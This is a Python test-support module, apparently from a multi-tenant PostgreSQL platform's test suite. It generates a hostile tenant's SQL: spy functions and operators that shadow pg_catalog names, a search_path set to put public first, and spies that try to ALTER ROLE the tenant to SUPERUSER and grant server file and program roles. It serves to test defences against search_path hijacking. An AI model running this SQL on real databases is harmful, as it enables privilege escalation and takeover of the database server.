"""A hostile tenant's arsenal: spies that shadow the operators, functions and types platform SQL uses,
and database/role settings that put them first on every session's search_path.

Every spy notes who ran it (`current_user`, `session_user`) in `public.spy_log`, which any role may
insert into, and tries to make the tenant's role a superuser (and more) inside an exception block: a
spy that ever runs as the platform's superuser leaves both a log row and a changed role behind. Each
returns what the original would, so the platform's SQL still works and the test sees the code ran.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Any

import asyncpg

# (left type, operator, right type, original): each becomes public.<operator>(left, right).
OPERATORS = [
    ("oid", "=", "regclass", "$1 OPERATOR(pg_catalog.=) $2::pg_catalog.oid"),
    ("oid", "=", "oid", "$1 OPERATOR(pg_catalog.=) $2"),
    ("name", "=", "name", "$1 OPERATOR(pg_catalog.=) $2"),
    ("name", "=", "text", "$1 OPERATOR(pg_catalog.=) $2"),
    ("text", "=", "text", "$1 OPERATOR(pg_catalog.=) $2"),
    ('"char"', "=", '"char"', "$1 OPERATOR(pg_catalog.=) $2"),
    ("name", "<>", "text", "$1 OPERATOR(pg_catalog.<>) $2"),
    ("name", "~~", "text", "$1 OPERATOR(pg_catalog.~~) $2"),
    ("name", "!~~", "text", "$1 OPERATOR(pg_catalog.!~~) $2"),
]

# (signature, return type, original call): each becomes public.<function>.
FUNCTIONS = [
    ("lower(t text)", "text", "pg_catalog.lower(t)"),
    ("quote_ident(t text)", "text", "pg_catalog.quote_ident(t)"),
    ("format(f text, a regclass)", "text", "pg_catalog.format(f, a)"),
    ("format(f text, a text)", "text", "pg_catalog.format(f, a)"),
    ("current_setting(n text)", "text", "pg_catalog.current_setting(n)"),
    ("set_config(n text, v text, l boolean)", "text", "pg_catalog.set_config(n, v, l)"),
    ("pg_get_userbyid(o oid)", "name", "pg_catalog.pg_get_userbyid(o)"),
    ("pg_has_role(o oid, p text)", "boolean", "pg_catalog.pg_has_role(o, p)"),
    (
        "has_database_privilege(r text, o oid, p text)",
        "boolean",
        "pg_catalog.has_database_privilege(r, o, p)",
    ),
    ("pg_backend_pid()", "integer", "pg_catalog.pg_backend_pid()"),
    ("pg_terminate_backend(p integer)", "boolean", "pg_catalog.pg_terminate_backend(p)"),
    ("pg_cancel_backend(p integer)", "boolean", "pg_catalog.pg_cancel_backend(p)"),
    ("pg_drop_replication_slot(s name)", "void", "pg_catalog.pg_drop_replication_slot(s)"),
    ("pg_advisory_unlock_all()", "void", "pg_catalog.pg_advisory_unlock_all()"),
]

_SPY = """
CREATE TABLE public.spy_log (what text NOT NULL, cu text NOT NULL, su text NOT NULL);
GRANT INSERT ON public.spy_log TO PUBLIC;
CREATE FUNCTION public.spy_note(what text) RETURNS boolean LANGUAGE plpgsql
SET search_path = pg_catalog AS $spy$
BEGIN
  BEGIN
    INSERT INTO public.spy_log VALUES (what, current_user, session_user);
  EXCEPTION WHEN OTHERS THEN NULL;
  END;
  BEGIN
    EXECUTE 'ALTER ROLE {owner} SUPERUSER CREATEROLE CREATEDB REPLICATION BYPASSRLS';
  EXCEPTION WHEN OTHERS THEN NULL;
  END;
  BEGIN
    EXECUTE 'GRANT pg_execute_server_program, pg_read_server_files, pg_write_server_files TO {owner}';
  EXCEPTION WHEN OTHERS THEN NULL;
  END;
  RETURN true;
END $spy$;
"""


def arsenal(owner: str) -> str:
    """The SQL the tenant (as `owner`) runs to arm its database."""
    parts = [_SPY.replace("{owner}", owner)]
    for n, (left, op, right, original) in enumerate(OPERATORS):
        function = f"public.spy_op_{n}"
        parts.append(
            f"CREATE FUNCTION {function}({left}, {right}) RETURNS boolean LANGUAGE plpgsql "
            f"SET search_path = pg_catalog AS $f$ BEGIN PERFORM public.spy_note('{left} {op} {right}'); "
            f"RETURN {original}; END $f$;"
            f"CREATE OPERATOR public.{op} (LEFTARG = {left}, RIGHTARG = {right}, FUNCTION = {function});"
        )
    for signature, returns, original in FUNCTIONS:
        name = signature.split("(")[0]
        body = f"PERFORM {original}; RETURN;" if returns == "void" else f"RETURN {original};"
        parts.append(
            f"CREATE FUNCTION public.{signature} RETURNS {returns} LANGUAGE plpgsql "
            f"SET search_path = pg_catalog AS $f$ BEGIN PERFORM public.spy_note('{name}'); {body} END $f$;"
        )
    # A type shadowing regclass: a platform cast `'x'::regclass` would check it as the platform.
    parts.append(
        "CREATE DOMAIN public.regclass AS pg_catalog.oid CHECK (public.spy_note('regclass domain'));"
        # A cast is the tenant's to define only from or to its own types.
        "CREATE TYPE public.mood AS ENUM ('ok');"
        "CREATE FUNCTION public.spy_cast(t text) RETURNS public.mood LANGUAGE plpgsql "
        "SET search_path = pg_catalog AS $f$ BEGIN PERFORM public.spy_note('cast'); RETURN 'ok'; END $f$;"
        "CREATE CAST (text AS public.mood) WITH FUNCTION public.spy_cast(text) AS IMPLICIT;"
    )
    return "\n".join(parts)


def first_on_the_path(database: str, owner: str) -> str:
    """Every session in the database, and every session of the tenant's role, resolves `public` first;
    sessions of any role that may become the tenant's role act as it."""
    return (
        f'ALTER DATABASE "{database}" SET search_path = public, pg_catalog;'
        f'ALTER DATABASE "{database}" SET role = "{owner}";'
        f'ALTER ROLE "{owner}" SET search_path = public, pg_catalog;'
    )


@dataclass(frozen=True)
class SpyRecord:
    what: str
    current_user: str
    session_user: str


async def spy_log(superuser_dsn: str) -> list[SpyRecord]:
    conn = await asyncpg.connect(superuser_dsn, server_settings={"search_path": "pg_catalog"})
    try:
        rows = await conn.fetch("SELECT what, cu, su FROM public.spy_log")
    finally:
        await conn.close()
    return [SpyRecord(r["what"], r["cu"], r["su"]) for r in rows]


ATTRIBUTES = "rolsuper, rolcreaterole, rolcreatedb, rolreplication, rolbypassrls, rolcanlogin"


async def roles(superuser_dsn: str, names: list[str]) -> dict[str, dict[str, Any]]:
    """Attributes and memberships of `names`, as the cluster's catalog has them."""
    conn = await asyncpg.connect(superuser_dsn, server_settings={"search_path": "pg_catalog"})
    try:
        rows = await conn.fetch(
            f"SELECT r.rolname, {ATTRIBUTES}, array(SELECT g.rolname FROM pg_auth_members m "
            "JOIN pg_roles g ON g.oid = m.roleid WHERE m.member = r.oid ORDER BY 1) AS member_of "
            "FROM pg_roles r WHERE r.rolname = ANY($1::text[])",
            names,
        )
    finally:
        await conn.close()
    return {r["rolname"]: {k: v for k, v in r.items() if k != "rolname"} for r in rows}


def unprivileged(member_of: list[str] | None = None) -> dict[str, Any]:
    """A login role with no attribute beyond LOGIN."""
    return {
        "rolsuper": False,
        "rolcreaterole": False,
        "rolcreatedb": False,
        "rolreplication": False,
        "rolbypassrls": False,
        "rolcanlogin": True,
        "member_of": member_of or [],
    }
